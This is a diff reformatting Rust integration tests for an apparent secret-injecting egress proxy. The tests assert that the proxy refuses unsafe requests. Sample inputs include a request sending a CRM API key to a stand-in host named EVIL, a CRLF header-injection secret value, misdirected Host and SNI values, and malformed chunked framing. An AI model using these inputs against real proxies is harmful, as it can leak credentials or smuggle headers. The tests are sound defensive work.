@@ -14,7 +14,9 @@ fn nothing_was_sent(world: &World) {
 #[tokio::test]
 async fn domain_restricted_names_secret_host_and_patterns() {
     let world = World::new().await;
-    let response = world.send_tls(EVIL, &format!("GET / HTTP/1.1\r\nHost: {EVIL}\r\nAuthorization: Bearer {{secrets.crm.apiKey}}\r\n\r\n")).await;
+    let response = world
+        .send_tls(EVIL, &format!("GET / HTTP/1.1\r\nHost: {EVIL}\r\nAuthorization: Bearer {{secrets.crm.apiKey}}\r\n\r\n"))
+        .await;
     assert_eq!((response.status(), response.refusal().as_str()), (403, "domain_restricted"));
     let problem = response.json();
     assert_eq!((problem["secret"].as_str(), problem["surface"].as_str()), (Some("crm.apiKey"), Some("authentication")));
@@ -48,7 +50,11 @@ async fn values_that_cannot_stand_are_refused() {
     let world = World::new().await;
     world.proxy.must(&["secret", "create", "lines", "--value-stdin", "--exact"], "a\r\nInjected: 1").await;
     world.proxy.must(&["secret", "create", "dots", "--value-stdin"], "..").await;
-    for request in ["GET / HTTP/1.1\r\nX: {secrets.lines}", "GET /{secrets.dots}/x HTTP/1.1", "GET / HTTP/1.1\r\nContent-MD5: x\r\nContent-Length: 15\r\nA: {secrets.lines}"] {
+    for request in [
+        "GET / HTTP/1.1\r\nX: {secrets.lines}",
+        "GET /{secrets.dots}/x HTTP/1.1",
+        "GET / HTTP/1.1\r\nContent-MD5: x\r\nContent-Length: 15\r\nA: {secrets.lines}",
+    ] {
         let response = world.send_tls(CRM, &format!("{request}\r\nHost: {CRM}\r\n\r\n{{secrets.lines}}")).await;
         assert_eq!((response.status(), response.refusal().as_str()), (422, "secret_not_encodable"), "{request}");
         assert!(!response.text().contains("Injected"));
@@ -106,8 +112,11 @@ async fn a_head_or_content_over_its_limit_is_refused() {
     let response = world.send_tls(CRM, &format!("GET / HTTP/1.1\r\nHost: {CRM}\r\nX: {}\r\n\r\n", "a".repeat(9000))).await;
     assert_eq!((response.status(), response.refusal().as_str()), (431, "head_too_large"));
     let long = "a".repeat(2000);
-    for framing in [format!("Content-Length: 2000\r\n\r\n{long}"), format!("Transfer-Encoding: chunked\r\n\r\n7d0\r\n{long}\r\n0\r\n\r\n")] {
-        let response = world.send_tls(CRM, &format!("POST / HTTP/1.1\r\nHost: {CRM}\r\nContent-Type: text/plain\r\n{framing}")).await;
+    for framing in
+        [format!("Content-Length: 2000\r\n\r\n{long}"), format!("Transfer-Encoding: chunked\r\n\r\n7d0\r\n{long}\r\n0\r\n\r\n")]
+    {
+        let response =
+            world.send_tls(CRM, &format!("POST / HTTP/1.1\r\nHost: {CRM}\r\nContent-Type: text/plain\r\n{framing}")).await;
         assert_eq!((response.status(), response.refusal().as_str()), (413, "body_too_large"));
     }
     nothing_was_sent(&world);
@@ -116,11 +125,16 @@ async fn a_head_or_content_over_its_limit_is_refused() {
 #[tokio::test]
 async fn inside_a_tunnel_sni_host_and_target_must_agree() {
     let world = World::new().await;
-    for request in [format!("GET / HTTP/1.1\r\nHost: {EVIL}\r\n\r\n"), format!("GET https://{EVIL}/ HTTP/1.1\r\nHost: {CRM}\r\n\r\n"), format!("GET / HTTP/1.1\r\nHost: {CRM}:8443\r\n\r\n")] {
+    for request in [
+        format!("GET / HTTP/1.1\r\nHost: {EVIL}\r\n\r\n"),
+        format!("GET https://{EVIL}/ HTTP/1.1\r\nHost: {CRM}\r\n\r\n"),
+        format!("GET / HTTP/1.1\r\nHost: {CRM}:8443\r\n\r\n"),
+    ] {
         let response = world.send_tls(CRM, &request).await;
         assert_eq!((response.status(), response.refusal().as_str()), (421, "misdirected"), "{request}");
     }
-    let mut other_sni = tls_in(world.tunnel(&format!("{CRM}:443")).await, EVIL, &world.ca()).await.expect("a leaf for the name asked for");
+    let mut other_sni =
+        tls_in(world.tunnel(&format!("{CRM}:443")).await, EVIL, &world.ca()).await.expect("a leaf for the name asked for");
     let response = exchange(&mut other_sni, &format!("GET / HTTP/1.1\r\nHost: {CRM}\r\n\r\n")).await;
     assert_eq!(response.refusal(), "misdirected");
     nothing_was_sent(&world);
@@ -162,7 +176,10 @@ async fn a_secret_goes_over_plain_http_only_where_the_config_says_so() {
 #[tokio::test]
 async fn upstream_faults_have_their_codes() {
     let world = World::with("", reply("200 OK", "", "ok")).await;
-    let closed = { let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("loopback"); listener.local_addr().expect("bound").port() };
+    let closed = {
+        let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("loopback");
+        listener.local_addr().expect("bound").port()
+    };
     let config = format!(
         "[egress]\nallow = [\"127.0.0.0/8\"]\n[timeouts]\nupstream_head = \"300ms\"\n[egress.resolve]\n\"closed.test\" = \"127.0.0.1:{closed}\"\n\"untrusted.test\" = \"{}\"\n\"notls.test\" = \"{}\"\n",
         world.crm.address, world.crm_plain.address
@@ -189,15 +206,36 @@ async fn upstream_faults_have_their_codes() {
 async fn a_content_that_breaks_off_is_never_forwarded_as_whole() {
     let world = World::new().await;
     let mut stream = world.tls(CRM).await;
-    stream.write_all(format!("POST / HTTP/1.1\r\nHost: {CRM}\r\nContent-Type: text/plain\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhelloXX").as_bytes()).await.expect("sent");
+    stream
+        .write_all(
+            format!(
+                "POST / HTTP/1.1\r\nHost: {CRM}\r\nContent-Type: text/plain\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhelloXX"
+            )
+            .as_bytes(),
+        )
+        .await
+        .expect("sent");
     stream.flush().await.expect("sent");
     let response = read_response(&mut stream, false).await;
     assert_eq!((response.status(), response.refusal().as_str()), (400, "malformed_request"));
     // A streaming content has begun to go out; its upstream must not see an end.
     let mut stream = world.tls(CRM).await;
-    stream.write_all(format!("POST / HTTP/1.1\r\nHost: {CRM}\r\nContent-Type: application/octet-stream\r\nContent-Length: 10\r\n\r\nhello").as_bytes()).await.expect("sent");
+    stream
+        .write_all(
+            format!(
+                "POST / HTTP/1.1\r\nHost: {CRM}\r\nContent-Type: application/octet-stream\r\nContent-Length: 10\r\n\r\nhello"
+            )
+            .as_bytes(),
+        )
+        .await
+        .expect("sent");
     stream.shutdown().await.expect("closed");
-    soon(async { while world.crm.connections() == 0 { tokio::task::yield_now().await } }).await;
+    soon(async {
+        while world.crm.connections() == 0 {
+            tokio::task::yield_now().await
+        }
+    })
+    .await;
     assert_eq!(world.crm.received().len(), 0);
 }
 
@@ -205,7 +243,11 @@ async fn a_content_that_breaks_off_is_never_forwarded_as_whole() {
 async fn the_connection_goes_on_after_a_refusal() {
     let world = World::new().await;
     let mut stream = world.tls(CRM).await;
-    let refused = exchange(&mut stream, &format!("POST /{{secrets.nobody}} HTTP/1.1\r\nHost: {CRM}\r\nContent-Type: text/plain\r\nContent-Length: 3\r\n\r\nabc")).await;
+    let refused = exchange(
+        &mut stream,
+        &format!("POST /{{secrets.nobody}} HTTP/1.1\r\nHost: {CRM}\r\nContent-Type: text/plain\r\nContent-Length: 3\r\n\r\nabc"),
+    )
+    .await;
     assert_eq!(refused.refusal(), "secret_not_found");
     assert_eq!(exchange(&mut stream, &format!("GET / HTTP/1.1\r\nHost: {CRM}\r\n\r\n")).await.text(), "ok");
 }
